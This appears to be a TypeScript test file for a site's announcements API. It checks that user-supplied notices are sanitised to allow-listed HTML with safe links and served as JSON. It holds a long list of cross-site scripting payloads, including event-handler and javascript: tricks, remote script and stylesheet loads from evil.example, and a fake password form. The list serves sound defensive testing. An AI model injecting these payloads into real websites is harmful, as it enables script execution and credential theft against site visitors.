import t from "tap";
import type { Announcements } from "../../../../shared/contracts/announcements.ts";
import { startGateway, startSandbox } from "../../../support/site.ts";

/** Markup that has run as script in browsers: classic cases, and cases that bypass heuristic filters. */
const payloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\x0d\x0a>alert(1)</script >",
  "<img src=x onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)//",
  "<img/src='x'/onerror='alert(1)'>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)><a>x</a></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<style>@import'//evil.example/x.css';</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p style='position:fixed;inset:0'>cover</p>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='jAvAsCrIpT:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
  "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
  "<a href='\x01javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='//evil.example/'>x</a>",
  "<a href='\\\\evil.example/'>x</a>",
  "<a href='blob:https://evil.example/x'>x</a>",
  "<a href='https://ok.example' onclick='alert(1)' style='x' target='_top' rel='opener'>x</a>",
  "<img src='javascript:alert(1)'>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img srcset='//evil.example/x 1x' src='https://ok.example/x.png' lowsrc='javascript:alert(1)'>",
  "<iframe src=//evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=//evil.example/x.swf></object>",
  "<embed src=//evil.example/x.swf>",
  "<applet code=x></applet>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<form action=//evil.example><input name=password><button>Sign in</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea></textarea><script>alert(1)</script>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
  "<div id=app class=modal data-x=1 contenteditable onpaste=alert(1)>x</div>",
  "<template><script>alert(1)</script></template>",
  "<title><a title='</title><img src=x onerror=alert(1)>'>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "\ufeff<script>alert(1)</script>\u2028alert(1)\u2029",
  "<p>\0<scr\0ipt>alert(1)</scr\0ipt></p>",
  "＜script＞alert(1)＜/script＞",
  `${"<div>".repeat(5_000)}<script>alert(1)</script>`,
  "<<script>alert(1)//<</script>",
  "<a href=https://ok.example/?a=<script>alert(1)</script>>x</a>",
  '"><script>alert(1)</script>',
  "</script><script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}<p ng-app>x</p>",
];

const allowedTags = new Set(
  "p br hr b strong i em u s span div h1 h2 h3 h4 ul ol li blockquote table thead tbody tr th td a img".split(" "),
);
const allowedAttributes = new Set(["href", "target", "rel", "src", "alt", "colspan"]);

/** Returns the tags and attributes that are not on the allow list, parsed as a browser does. */
function disallowedIn(html: string): string[] {
  const disallowed: string[] = [];
  for (const [, name = "", attributes = ""] of html.matchAll(/<\/?([^\s/>]*)([^>]*)>?/g)) {
    if (!allowedTags.has(name)) disallowed.push(`<${name}`);
    for (const [, attribute = "", value = ""] of attributes.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
      if (!allowedAttributes.has(attribute)) disallowed.push(`${name} ${attribute}`);
      const address = attribute === "href" || attribute === "src";
      if (address && !leadsSafely(value)) disallowed.push(`${attribute}=${value}`);
      if (attribute === "target" && value !== "_blank") disallowed.push(`target=${value}`);
      if (attribute === "rel" && value !== "noopener noreferrer") disallowed.push(`rel=${value}`);
    }
  }
  return disallowed;
}

/** Accepts an http(s) or mail address, or a path of this site. Rejects other schemes, and hosts without a scheme. */
const leadsSafely = (address: string): boolean =>
  /^(https?:\/\/|mailto:)\S/.test(address) || (!/^[\\/]{2}|^[^/?#]*:/.test(address) && !/^[\s\p{Cc}]/u.test(address));

const sandbox = await startSandbox();
const gateway = await startGateway(sandbox.url);
t.teardown(async () => {
  await gateway.close();
  await sandbox.close();
});
const notices = payloads.map((content) => ({ title: content, content }));
await sandbox.steer("PUT", "/switches", { notices });
const answer = await gateway.visitor().call("GET", "/api/announcements?language=EN");
const announcements = (await answer.json()) as Announcements;

t.test("every notice arrives with its text unchanged and nothing executable", async (t) => {
  const written = announcements.notices.filter(({ id }) => Number(id) > 5_000);
  t.equal(written.length, payloads.length);
  const disallowed = written.map(({ html }) => disallowedIn(html));
  t.same(
    payloads.filter((_, at) => disallowed[at]?.length !== 0),
    [],
  );
});

t.test("a title is text without control characters, on one line, which no page reads as HTML", async (t) => {
  for (const { title } of announcements.notices) {
    t.notMatch(title, /\p{Cc}/u);
    t.ok(title.length <= 200);
  }
});

t.test("harmless content stays as written", async (t) => {
  const own = announcements.notices.find(({ id }) => id === "504");
  t.match(own?.html, /<p>Matches begin .*<a href="\/sports"/s);
  const linked = announcements.notices.find(({ title }) => title === "x" && payloads.length > 0);
  t.ok(linked, "the text of a link stays");
  t.ok(
    announcements.notices.some(({ html }) =>
      html.includes('<a href="https://ok.example" target="_blank" rel="noopener noreferrer">'),
    ),
    "a valid link stays, and sends no referrer",
  );
});

t.test("the response is JSON that no browser displays as a page", async (t) => {
  t.match(answer.headers.get("content-type"), /^application\/json; charset=utf-8$/);
  t.equal(answer.headers.get("x-content-type-options"), "nosniff");
});
